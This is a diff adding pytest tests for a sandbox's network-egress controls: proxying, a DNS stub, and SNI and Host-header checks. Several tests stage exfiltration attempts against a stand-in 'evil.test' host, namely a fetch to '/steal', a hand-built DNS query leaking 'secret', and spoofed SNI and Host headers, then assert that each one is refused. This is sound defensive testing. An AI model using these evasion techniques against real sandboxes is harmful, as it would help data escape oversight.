@@ -389,9 +389,37 @@ def test_git_clone_over_http_through_the_proxy(harness, tmp_path, project):
                         "--policy", pol, "--allow-dir", project)
         assert r.rc == 0, r
         assert (project / "cloned" / "f.txt").read_text() == "from the host\n"
+        # And over SOCKS5 (git's http.proxy with socks5h: the name is
+        # resolved by the proxy, outside).
+        r = harness.run(["git", "-c", "http.proxy=socks5h://127.0.0.1:1080", "clone", "-q",
+                         f"http://svc.test:{port}/r.git", "cloned2"],
+                        "--policy", pol, "--allow-dir", project)
+        assert r.rc == 0, r
+        assert (project / "cloned2" / "f.txt").read_text() == "from the host\n"
+        vias = {x["metadata"]["via"] for x in records(harness, "net.connect")}
+        assert vias == {"http", "socks5"}, vias
     finally:
         srv.shutdown()
         srv.server_close()
+
+
+def test_python_urllib_uses_the_proxy(harness, tmp_path, web):
+    pol = net_policy(tmp_path, [f"svc.test:{web.port}"])
+    r = harness.py("import urllib.request\n"
+                   "print(urllib.request.urlopen('http://svc.test:%d/py', timeout=10).read().decode())\n"
+                   % web.port, opts=("--policy", pol))
+    assert f"{TOKEN} /py" in r.out, r
+    assert records(harness, "net.connect")[0]["metadata"]["via"] == "http"
+
+
+def test_dns_failure_is_a_clear_error_not_a_hang(harness):
+    r = harness.run(["curl", "-sS", "-i", "--max-time", "60", "http://no-such-host.invalid/"],
+                    "--allow-host", "no-such-host.invalid", timeout=90)
+    status = r.out.split("\r\n", 1)[0]
+    assert status in ("HTTP/1.1 502 Bad Gateway", "HTTP/1.1 504 Gateway Timeout"), r
+    assert "no-such-host.invalid" in r.out, r
+    rec = records(harness, "net.connect")
+    assert rec and rec[0]["outcome"] == "blocked" and "reason" in rec[0]["metadata"], rec
 
 
 def test_allow_host_flag(harness, web):
@@ -465,3 +493,181 @@ def test_byte_cap_closes_the_connection(harness, tmp_path, echo):
     assert echo.seen.bytes + got <= 1000, r
     assert "SECOND HTTP/1.1 429" in r.out, r
     assert "byte cap" in r.err, r
+
+
+# ------------------------------------------------ the transparent path ---
+# Clients that ignore the proxy variables (Node's fetch, and anything with
+# them unset) resolve names through harness's DNS stub, which answers
+# 127.0.0.1 for allowed names, and connect to 127.0.0.1:443 or :80, where
+# the supervisor takes the host from SNI or Host. The upstream port is the
+# one asked for (443/80), so the tests pin svc.test:443/:80 to their
+# servers' ports with `resolve` (unprivileged tests cannot listen on 443).
+
+NO_PROXY_ENV = ("env", "-u", "HTTP_PROXY", "-u", "http_proxy", "-u", "HTTPS_PROXY",
+                "-u", "https_proxy", "-u", "ALL_PROXY", "-u", "all_proxy")
+
+
+@pytest.fixture
+def tls_web(tmp_path):
+    """An HTTPS server on the host's loopback with a self-signed certificate
+    for svc.test; tls_web.seen logs requests and the SNI it got."""
+    import ssl
+    key, crt = tmp_path / "k.pem", tmp_path / "c.pem"
+    subprocess.run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "2",
+                    "-subj", "/CN=svc.test", "-addext", "subjectAltName=DNS:svc.test",
+                    "-keyout", str(key), "-out", str(crt)], check=True, capture_output=True)
+    seen = Seen()
+    seen.sni = []
+
+    class H(http.server.BaseHTTPRequestHandler):
+        protocol_version = "HTTP/1.1"
+
+        def do_GET(self):
+            with seen.lock:
+                seen.requests.append((self.path, self.headers.get("Host"), None))
+            body = f"{TOKEN} tls {self.path}\n".encode()
+            self.send_response(200)
+            self.send_header("Content-Length", str(len(body)))
+            self.end_headers()
+            self.wfile.write(body)
+
+        def log_message(self, *a):
+            pass
+
+    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
+    ctx.load_cert_chain(str(crt), str(key))
+
+    def sni_cb(sock, name, c):
+        with seen.lock:
+            seen.sni.append(name)
+    ctx.sni_callback = sni_cb
+
+    class Server(http.server.ThreadingHTTPServer):
+        daemon_threads = True
+
+        def get_request(self):
+            s, a = super().get_request()
+            seen.add_conn()
+            return ctx.wrap_socket(s, server_side=True), a
+
+    srv = Server(("127.0.0.1", 0), H)
+    threading.Thread(target=srv.serve_forever, daemon=True).start()
+    srv.seen = seen
+    srv.port = srv.server_address[1]
+    srv.cert = crt
+    yield srv
+    srv.shutdown()
+    srv.server_close()
+
+
+def transparent_policy(tmp_path, tls_port=None, http_port=None, allow=("svc.test",)):
+    resolve = {}
+    if tls_port:
+        resolve["svc.test:443"] = f"127.0.0.1:{tls_port}"
+    if http_port:
+        resolve["svc.test:80"] = f"127.0.0.1:{http_port}"
+    resolve["evil.test"] = "127.0.0.1"
+    p = tmp_path / "t.json"
+    p.write_text(json.dumps({"network": {"allow": list(allow), "resolve": resolve}}))
+    return p
+
+
+def test_dns_stub_answers_allowed_names_only(harness, tmp_path):
+    pol = transparent_policy(tmp_path)
+    r = harness.py("import socket\n"
+                   "for n in ('svc.test', 'SVC.test', 'evil.test', 'sub.svc.test'):\n"
+                   "    try:\n"
+                   "        print(n, socket.gethostbyname(n))\n"
+                   "    except OSError as e:\n"
+                   "        print(n, 'unresolved')\n"
+                   "print(open('/etc/resolv.conf').read())\n", opts=("--policy", pol))
+    assert "svc.test 127.0.0.1" in r.out and "SVC.test 127.0.0.1" in r.out, r
+    assert "evil.test unresolved" in r.out and "sub.svc.test unresolved" in r.out, r
+    assert "nameserver 127.0.0.1" in r.out, r
+    assert "refused the DNS lookup of evil.test" in r.err, r
+    dns = records(harness, "net.dns")
+    assert [d["target"] for d in dns] == ["evil.test", "sub.svc.test"], dns
+
+
+def test_the_stub_forwards_nothing(harness, tmp_path):
+    """A refused lookup never leaves the sandbox: no resolver on the host
+    side sees it (the policy pins nothing for it and there is no
+    upstream resolver in the path at all)."""
+    pol = transparent_policy(tmp_path)
+    listener = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    listener.bind(("127.0.0.1", 0))
+    listener.settimeout(0.5)
+    port = listener.getsockname()[1]
+    r = harness.py("import socket\n"
+                   "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
+                   "for dst in (('127.0.0.1', 53), ('127.0.0.1', %d), ('10.255.255.53', 53)):\n"
+                   "    try:\n"
+                   "        s.sendto(b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00'\n"
+                   "                 b'\\x06secret\\x04evil\\x04test\\x00\\x00\\x01\\x00\\x01', dst)\n"
+                   "    except OSError as e:\n"
+                   "        print('send', dst, e.errno)\n"
+                   "s.settimeout(2)\n"
+                   "print('reply', s.recv(512)[:4].hex())\n" % port, opts=("--policy", pol))
+    assert "reply 1234" in r.out, r  # the stub answered (NXDOMAIN)...
+    with pytest.raises(socket.timeout):
+        listener.recv(512)            # ...and nothing reached the host
+    listener.close()
+
+
+def test_node_fetch_over_tls_without_proxy_variables(harness, tmp_path, tls_web):
+    pol = transparent_policy(tmp_path, tls_port=tls_web.port)
+    code = ("fetch('https://svc.test/node').then(r => r.text()).then(t => console.log('BODY', t))"
+            ".catch(e => console.log('ERR', e.cause ? e.cause.code : e))")
+    r = harness.run(["node", "-e", code], "--policy", pol,
+                    "--env", "NODE_TLS_REJECT_UNAUTHORIZED=0")
+    assert f"BODY {TOKEN} tls /node" in r.out, r
+    assert tls_web.seen.sni == ["svc.test"], tls_web.seen.sni
+    conn = records(harness, "net.connect")
+    assert conn and conn[0]["metadata"]["via"] == "tls", conn
+    assert conn[0]["metadata"]["addr"] == "127.0.0.1", conn
+
+
+def test_node_fetch_to_a_denied_host_reaches_nothing(harness, tmp_path, tls_web):
+    pol = transparent_policy(tmp_path, tls_port=tls_web.port)
+    code = ("fetch('https://evil.test/steal').then(r => console.log('STATUS', r.status))"
+            ".catch(e => console.log('ERR', e.cause ? e.cause.code : e))")
+    r = harness.run(["node", "-e", code], "--policy", pol,
+                    "--env", "NODE_TLS_REJECT_UNAUTHORIZED=0")
+    assert "ERR ENOTFOUND" in r.out, r
+    assert tls_web.seen.conns == 0
+
+
+def test_sni_decides_not_the_address(harness, tmp_path, tls_web):
+    """A client that resolved an allowed name but sends another name in its
+    ClientHello (or none) is refused: the name checked is the one TLS
+    carries."""
+    pol = transparent_policy(tmp_path, tls_port=tls_web.port)
+    code = ("import socket, ssl\n"
+            "ctx = ssl.create_default_context(); ctx.check_hostname = False\n"
+            "ctx.verify_mode = ssl.CERT_NONE\n"
+            "for sni in ('evil.test', None, 'svc.test'):\n"
+            "    s = socket.create_connection((socket.gethostbyname('svc.test'), 443), timeout=10)\n"
+            "    try:\n"
+            "        t = ctx.wrap_socket(s, server_hostname=sni)\n"
+            "        t.sendall(b'GET /sni HTTP/1.1\\r\\nHost: svc.test\\r\\nConnection: close\\r\\n\\r\\n')\n"
+            "        print(sni, 'OK', t.recv(200).split(b'\\r\\n')[0].decode())\n"
+            "    except (ssl.SSLError, OSError) as e:\n"
+            "        print(sni, 'REFUSED', type(e).__name__)\n")
+    r = harness.py(code, opts=("--policy", pol))
+    assert "evil.test REFUSED" in r.out and "None REFUSED" in r.out, r
+    assert "svc.test OK HTTP/1.1 200" in r.out, r
+    assert tls_web.seen.sni == ["svc.test"], tls_web.seen.sni
+    assert "without a server name" in r.err, r
+
+
+def test_plain_http_by_host_header(harness, tmp_path, web):
+    pol = transparent_policy(tmp_path, http_port=web.port)
+    r = harness.run([*NO_PROXY_ENV, "curl", "-sS", "http://svc.test/plain"], "--policy", pol)
+    assert f"{TOKEN} /plain" in r.out, r
+    assert web.seen.requests[0][1] == "svc.test", web.seen.requests
+    # The Host header decides: a request to the allowed name's address that
+    # names another host is refused.
+    r = harness.run([*NO_PROXY_ENV, "curl", "-sS", "-i", "-H", "Host: evil.test",
+                     "http://svc.test/x"], "--policy", pol)
+    assert "HTTP/1.1 403" in r.out and "evil.test" in r.out, r
+    assert [p for p, *_ in web.seen.requests] == ["/plain"], web.seen.requests
